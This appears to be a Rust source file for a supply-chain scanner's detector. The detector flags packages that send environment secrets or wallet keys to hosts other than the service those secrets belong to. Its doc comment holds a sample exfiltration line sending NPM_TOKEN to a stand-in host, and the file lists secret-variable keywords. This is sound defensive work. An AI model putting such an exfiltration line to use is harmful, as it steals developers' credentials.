//! A secret of the environment is sent to a host that is not the service it is for.
//!
//! `GITHUB_TOKEN` belongs to GitHub's API. When a token's name says one service and the address says another, somebody collects tokens.
//!
//! **What to do:** see whom the host belongs to. **Limits:** the service is taken from the variable's name; a service under another name is told as low
//! when only a function sends it. **Example:** `get('https://x.invalid/?t=' + process.env.NPM_TOKEN)`.

use super::common::*;

pub(super) const DETECTOR: Detector = Detector {
    id: "behaviour/exfil-env-secret",
    catalogue: "EXFIL-ENV-SECRET",
    title: "sends a secret to a host that it is not for",
    severity: High,
    ecosystems: &[],
    run,
};

fn run(package: &Package, findings: &mut Findings) {
    let own = package.manifest.as_ref().and_then(|m| m.name.clone()).unwrap_or_default().to_ascii_lowercase();
    for (code, from, to, _) in package.flows() {
        if from.what != What::EnvRead
            || !words::is_secret_variable(&from.detail)
            || !matches!(to.what, What::NetSend | What::DnsQuery)
        {
            continue;
        }
        let Some(address) = foreign(&to.detail) else { continue };
        let service = words::service_of(&from.detail);
        // A host that is called like the package may take the package's own keys, but nobody needs a name to take those of others.
        let is_own = !names_known(&service)
            && own.split(['/', '-', '_', '@']).any(|part| part.len() >= 4 && address.belongs_to(part));
        if belongs(&address, &service)
            || names_whom_it_is_for(&from.detail, &address)
            || is_own
            || is_its_own_key(&to.detail)
        {
            continue;
        }
        let words = words::classes(&to.detail);
        let is_collector = words.any(&[Class::Messenger, Class::OutOfBand, Class::FileHost, Class::DeadDrop])
            || address.is_bare()
            || to.what == What::DnsQuery;
        let is_wallet = is_wallet_key(&from.detail) && takes_both(code, to);
        let grade = match (early(code, to), is_collector || names_known(&service) || is_wallet) {
            (true, true) => (High, Sure),
            (true, false) => (High, Likely),
            // One function asks everybody, and gives the key to whom it is for.
            (false, true) if !is_collector && goes_home(code, &from.detail, &service) => (Low, Likely),
            (false, true) => (High, Likely),
            (false, false) => (Low, Hint),
        };
        let variable = if from.detail.is_empty() { "a variable" } else { &from.detail };
        findings.tell(
            code,
            to,
            grade,
            &format!("sends the secret `{variable}` to `{}`, which it is not for", address.host),
        );
    }
}

/// Whether a variable holds what a wallet is, rather than what opens a service.
fn is_wallet_key(variable: &str) -> bool {
    let upper = variable.to_ascii_uppercase();
    ["MNEMONIC", "SEED_PHRASE", "PRIVATE_KEY", "WALLET_KEY", "SECRET_RECOVERY"]
        .iter()
        .any(|word| upper.contains(word))
}

/// Whether a phrase and a key go the same way. Who signs needs one of them, and sends neither.
fn takes_both(code: &Code, to: &Fact) -> bool {
    let names: std::collections::BTreeSet<&str> = code
        .facts
        .flowing()
        .filter(|(from, sink, _)| from.what == What::EnvRead && *sink == to && is_wallet_key(&from.detail))
        .map(|(from, _, _)| from.detail.as_str())
        .collect();
    names.len() >= 2
}

/// Whether the same code also sends a variable to the service that it is for.
fn goes_home(code: &Code, variable: &str, service: &str) -> bool {
    code.facts.flowing().any(|(from, to, _)| {
        from.what == What::EnvRead
            && from.detail == variable
            && to.what == What::NetSend
            && foreign(&to.detail).is_some_and(|address| belongs(&address, service))
    })
}

/// Whether the part of a messenger's address that says who posts is not constant: then the secret is what it takes to post, and
/// not what is posted. Whoever steals has a constant there.
fn is_its_own_key(address: &str) -> bool {
    words::classes(address).any(&[Class::Messenger])
        && ["/bot*", "/webhooks/*", "/services/*"].iter().any(|part| address.contains(part))
}

/// Whether another word of the variable's name is the service: `ACME_TEST_GITHUB_TOKEN` is for GitHub.
fn names_whom_it_is_for(variable: &str, address: &Address) -> bool {
    let words = variable.split(['_', '-']).map(str::to_ascii_lowercase);
    words.filter(|word| word.len() >= 4).any(|word| names_known(&word) && belongs(address, &word))
}

fn belongs(address: &Address, service: &str) -> bool {
    let hosts: &[&str] = match service {
        "aws" => &["amazonaws", "amazon"],
        "google" | "gemini" | "firebase" => &["googleapis", "google"],
        "azure" => &["azure", "microsoftonline", "windows"],
        "npm" => &["npmjs", "npm"],
        "claude" => &["anthropic"],
        "x" | "twitter" => &["twitter", "x"],
        "telegram" | "bot" => &["telegram"],
        "database" | "db" | "postgres" | "redis" | "mongo" | "mongodb" => &["mongodb", "postgres", "redis"],
        _ => &[],
    };
    address.belongs_to(service) || hosts.iter().any(|host| address.belongs_to(host))
}

/// Services whose hosts are known, so that another host is surely not theirs.
fn names_known(service: &str) -> bool {
    matches!(
        service,
        "npm"
            | "github"
            | "aws"
            | "pypi"
            | "gitlab"
            | "azure"
            | "google"
            | "openai"
            | "anthropic"
            | "huggingface"
            | "slack"
            | "stripe"
            | "docker"
            | "cargo"
            | "cloudflare"
            | "vercel"
            | "netlify"
            | "heroku"
            | "digitalocean"
            | "ssh"
    )
}
